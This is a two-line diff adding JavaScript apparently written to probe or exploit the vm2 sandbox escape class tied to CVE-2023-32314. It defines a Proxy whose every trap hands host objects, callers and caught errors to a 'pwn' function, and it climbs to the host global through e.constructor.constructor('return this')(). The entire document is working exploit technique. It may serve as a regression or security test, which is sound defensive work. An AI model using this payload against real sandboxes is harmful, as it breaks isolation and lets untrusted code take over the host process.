@@ -1,0 +1,2 @@
+// vm2 CVE-2023-32314 class: a Proxy handed to the host, traps get host objects
+const h = {}; for (const t of ['get','set','has','ownKeys','getPrototypeOf','getOwnPropertyDescriptor','defineProperty','apply','construct']) h[t] = function (...a) { a.forEach(x => pwn(x)); try { pwn(arguments.callee.caller) } catch (e) {} return Reflect[t](...a) }; try { log(new Proxy({}, h)) } catch (e) { pwn(e.constructor.constructor('return this')()) } try { log(new Proxy([], h)) } catch (e) {}
